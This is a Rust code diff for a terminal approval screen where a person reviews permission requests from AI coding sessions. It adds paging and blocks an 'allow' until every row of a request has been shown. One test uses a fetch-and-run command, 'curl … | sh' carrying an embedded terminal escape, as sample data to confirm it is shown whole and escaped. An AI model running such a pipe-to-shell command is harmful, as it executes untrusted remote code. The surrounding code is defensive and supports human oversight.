@@ -136,13 +136,29 @@ pub struct View {
     /// Registry files passed over, in words.
     pub problems: Vec<String>,
     /// The screen's height, as last drawn: an allow is taken only for a
-    /// request shown whole in it.
+    /// request whose every row was on it.
     pub height: usize,
+    /// The first row of the selected request shown, when it does not fit
+    /// (PgDn and PgUp move it).
+    pub scroll: usize,
+    /// How many of its rows have been on the screen so far (0: only its
+    /// first screenful).
+    pub seen: usize,
 }
 
 /// The rows a request's body may take on a screen `height` rows tall.
 fn body_room(height: usize) -> usize {
     height.saturating_sub(4 + 2 + 2).max(1)
+}
+
+/// The rows of a body of `len` rows shown at once in `room` rows: all,
+/// or all but the one that says where the window is.
+fn window(len: usize, room: usize) -> usize {
+    if len > room {
+        room.saturating_sub(1).max(1)
+    } else {
+        len
+    }
 }
 
 /// A request's body as shown: the chat's approval without its own
@@ -206,6 +222,8 @@ impl View {
         if self.selected.as_deref() == Some(token) {
             self.typed.clear();
             self.whole = false;
+            self.scroll = 0;
+            self.seen = 0;
             self.selected = self
                 .requests
                 .get(i.min(self.requests.len().saturating_sub(1)))
@@ -232,7 +250,50 @@ impl View {
             self.selected = Some(self.requests[j].token.clone());
             self.typed.clear();
             self.whole = false;
+            self.scroll = 0;
+            self.seen = 0;
         }
+    }
+
+    /// The selected request's body as shown now (folded, or whole).
+    fn body(&self) -> Option<Vec<&str>> {
+        let r = self.selected_request()?;
+        let body = match (&r.shown.whole, self.whole) {
+            (Some(w), true) => w,
+            _ => &r.shown.folded,
+        };
+        Some(body_lines(body))
+    }
+
+    /// Show the body from row `to` (kept in range), counting the rows so
+    /// brought on screen as seen.
+    fn scroll_to(&mut self, to: isize) {
+        let len = self.body().map_or(0, |b| b.len());
+        let room = body_room(self.height.max(1));
+        let win = window(len, room);
+        let top = to.clamp(0, len.saturating_sub(win) as isize) as usize;
+        self.scroll = top;
+        self.seen = self.seen.max(top + win);
+    }
+
+    /// Show the other body (whole or folded), from its top.
+    fn set_whole(&mut self, whole: bool) {
+        self.whole = whole;
+        self.scroll = 0;
+        self.seen = 0;
+    }
+
+    /// Whether every row of the selected request's body has been on the
+    /// screen (what is allowed is what was seen).
+    fn all_seen(&self) -> bool {
+        let len = self.body().map_or(0, |b| b.len());
+        if self.height == 0 {
+            return true;
+        }
+        let win = window(len, body_room(self.height));
+        self.seen
+            .max(self.scroll.min(len.saturating_sub(win)) + win)
+            >= len
     }
 
     /// One key; an answer when one was given.
@@ -245,7 +306,16 @@ impl View {
             KeyCode::Down => self.move_selection(1),
             KeyCode::Esc => {
                 self.typed.clear();
-                self.whole = false;
+                self.set_whole(false);
+            }
+            KeyCode::PageDown | KeyCode::PageUp => {
+                let step = window(usize::MAX, body_room(self.height.max(1))) as isize;
+                let by = if key.code == KeyCode::PageDown {
+                    step
+                } else {
+                    -step
+                };
+                self.scroll_to(self.scroll as isize + by);
             }
             KeyCode::Backspace => {
                 self.typed.pop();
@@ -255,7 +325,7 @@ impl View {
                 let token = r.token.clone();
                 let t = self.typed.trim().to_owned();
                 if t.is_empty() {
-                    self.whole = !self.whole;
+                    self.set_whole(!self.whole);
                     return None;
                 }
                 if t.eq_ignore_ascii_case("t") {
@@ -264,21 +334,18 @@ impl View {
                 }
                 if t.eq_ignore_ascii_case("d") {
                     self.typed.clear();
-                    self.whole = true;
+                    self.set_whole(true);
                     return None;
                 }
-                let body = match (&r.shown.whole, self.whole) {
-                    (Some(w), true) => w,
-                    _ => &r.shown.folded,
-                };
-                let cut = self.height > 0 && body_lines(body).len() > body_room(self.height);
-                match Decision::parse(&t, &r.offer) {
-                    // what is allowed is what was seen: never a request cut
-                    // by the screen's height
+                let offer = r.offer.clone();
+                let cut = !self.all_seen();
+                match Decision::parse(&t, &offer) {
+                    // what is allowed is what was seen: never a request
+                    // whose rows were not all on the screen
                     Ok(d) if cut && !matches!(d, Decision::Deny(_)) => {
                         self.typed.clear();
                         self.note = Some(
-                            "not all of it fits on this screen: make the terminal taller, or t answers it in its terminal"
+                            "not all of it has been on the screen yet: PgDn shows the rest (then it can be allowed), or t answers it in its terminal"
                                 .into(),
                         );
                     }
@@ -403,7 +470,13 @@ impl View {
             ));
         }
         let mut rest: Vec<(Phase, String)> = Vec::new();
-        for x in self.sessions.iter().filter(|x| x.phase != Phase::NeedsYou) {
+        // a session whose request is held here is on that request's row:
+        // it waits for the person, whatever its file says yet
+        for x in self
+            .sessions
+            .iter()
+            .filter(|x| x.phase != Phase::NeedsYou && !held(&x.session_id))
+        {
             let (label, what) = match x.phase {
                 Phase::Working => ("WORKING  ", "working"),
                 _ => ("DONE     ", "idle"),
@@ -461,11 +534,18 @@ impl View {
             let room = body_room(height);
             let lines = body_lines(body);
             if lines.len() > room {
-                foot.extend(lines[..room - 1].iter().map(|l| fit_row(l, width)));
-                foot.push(s.dim(&format!(
-                    "  … {} more rows (a taller terminal shows them)",
-                    lines.len() - (room - 1)
-                )));
+                let win = window(lines.len(), room);
+                let top = self.scroll.min(lines.len() - win);
+                foot.extend(lines[top..top + win].iter().map(|l| fit_row(l, width)));
+                foot.push(fit_row(
+                    &s.dim(&format!(
+                        "  … rows {}–{} of {} (PgDn, PgUp: the rest; all of it is seen before it can be allowed)",
+                        top + 1,
+                        top + win,
+                        lines.len()
+                    )),
+                    width,
+                ));
             } else {
                 foot.extend(lines.iter().map(|l| fit_row(l, width)));
             }
@@ -743,30 +823,125 @@ mod tests {
         );
     }
 
+    /// A claude TUI says `busy` while its hook runs: with its request held
+    /// here it is shown once, as needing you, never as working too.
     #[test]
-    fn a_tall_request_keeps_the_list_and_the_choices_in_sight() {
+    fn a_session_whose_request_is_held_is_never_shown_working() {
         let mut v = deck();
-        let long: String = (0..60).map(|i| format!("echo {i}\n")).collect();
+        for s in &mut v.sessions {
+            if s.session_id.as_deref() == Some("s-tui") {
+                s.phase = Phase::Working;
+                s.waiting_for = None;
+            }
+        }
+        let rows = v.render(NOW, 100, 16, Style::plain()).join("\n");
+        assert_eq!(rows.matches("WORKING").count(), 1, "{rows}");
+        assert!(rows.contains(" WORKING    api"), "{rows}");
+        assert!(rows.contains("›NEEDS YOU  app"), "{rows}");
+        assert!(rows.contains("4 sessions · 2 need you"), "{rows}");
+    }
+
+    fn page_down(v: &mut View) {
+        v.key(KeyEvent::new(KeyCode::PageDown, KeyModifiers::NONE));
+    }
+
+    /// A request taller than the screen keeps the list's head and the
+    /// choices in sight; PgDn and PgUp bring its other rows on screen, and
+    /// it can be allowed once every row has been there (a denial or a
+    /// hand-back at any time).
+    #[test]
+    fn a_tall_request_is_scrolled_through_and_then_allowed() {
+        let mut v = deck();
+        let long: String = (0..60).map(|i| format!("echo line-{i}\n")).collect();
         v.remove("t1");
         v.add(request("t9", "s-tui", &long, false));
+        v.height = 16;
         let rows = v.render(NOW, 80, 16, Style::plain());
         assert_eq!(rows.len(), 16);
         assert!(rows[2].starts_with("›NEEDS YOU"), "{rows:#?}");
         assert!(rows.last().unwrap().contains("y once"), "{rows:#?}");
-        assert!(rows.iter().any(|r| r.contains("more rows")), "{rows:#?}");
-        // what is not seen is not allowed; a denial or a hand-back still goes
-        v.height = 16;
+        assert!(rows.iter().any(|r| r.contains("rows 1–7 of")), "{rows:#?}");
+        // what has not been on the screen is not allowed
         assert_eq!(key(&mut v, "y\n"), None);
-        assert!(v.note.as_deref().unwrap().contains("not all of it fits"));
+        assert!(v.note.as_deref().unwrap().contains("PgDn shows the rest"));
         assert_eq!(key(&mut v, "t\n"), Some(Act::HandBack("t9".into())));
         assert!(matches!(
             key(&mut v, "n\n"),
             Some(Act::Answer(_, Decision::Deny(_)))
         ));
-        v.height = 80;
+        // page by page to the end: each row was on the screen once
+        let mut shown = String::new();
+        for _ in 0..20 {
+            shown.push_str(&v.render(NOW, 80, 16, Style::plain()).join("\n"));
+            page_down(&mut v);
+        }
+        for i in 0..60 {
+            assert!(
+                shown.contains(&format!("echo line-{i}")),
+                "line {i} never shown"
+            );
+        }
+        let rows = v.render(NOW, 80, 16, Style::plain());
+        assert!(rows.iter().any(|r| r.contains("echo line-59")), "{rows:#?}");
+        // back up: it stays seen
+        v.key(KeyEvent::new(KeyCode::PageUp, KeyModifiers::NONE));
         assert_eq!(
             key(&mut v, "y\n"),
             Some(Act::Answer("t9".into(), Decision::AllowOnce))
+        );
+        // another request, or the other body (Enter), starts unseen again
+        v.add(request("t8", "s-tui", &long, false));
+        v.remove("t9");
+        assert_eq!(key(&mut v, "y\n"), None);
+    }
+
+    /// A command longer than the screen is wrapped, never cut: every part
+    /// of it, its escapes as text, is on the screen before it is allowed.
+    #[test]
+    fn a_long_command_is_shown_whole_with_its_escapes_as_text() {
+        let mut v = deck();
+        let long = format!(
+            "curl -s https://example.com/{}\u{1b}]0;x\u{7} | sh # END-OF-IT",
+            "a".repeat(300)
+        );
+        v.remove("t1");
+        v.add(request("t7", "s-tui", &long, false));
+        v.height = 16;
+        let mut shown = String::new();
+        for _ in 0..10 {
+            let rows = v.render(NOW, 80, 16, Style::plain());
+            for r in &rows {
+                assert!(!r.contains('\u{1b}'), "an escape reached the screen: {r:?}");
+                assert!(crate::cli::wrap::visible_width(r) <= 80, "{r:?}");
+            }
+            shown.push_str(&rows.join("\n"));
+            page_down(&mut v);
+        }
+        // (the rows joined again: no space, no border)
+        let flat: String = shown
+            .chars()
+            .filter(|c| !c.is_whitespace() && *c != '│')
+            .collect();
+        assert!(flat.contains("\\e]0;x\\a|sh#END-OF-IT"), "{shown}");
+        // the whole URL is in the request's rows, and every one of them
+        // was on the 16-row screen, page by page
+        let all = v.render(NOW, 80, 200, Style::plain());
+        let body: String = all
+            .iter()
+            .skip_while(|r| !r.contains("command"))
+            .flat_map(|r| r.chars())
+            .filter(|c| !c.is_whitespace() && *c != '│')
+            .collect();
+        assert!(
+            body.contains(&format!("example.com/{}\\e]0;x", "a".repeat(300))),
+            "{all:#?}"
+        );
+        for r in all.iter().skip_while(|r| !r.contains("command")) {
+            assert!(shown.contains(r.as_str()), "never on screen: {r:?}");
+        }
+        assert_eq!(
+            key(&mut v, "y\n"),
+            Some(Act::Answer("t7".into(), Decision::AllowOnce))
         );
     }
 }
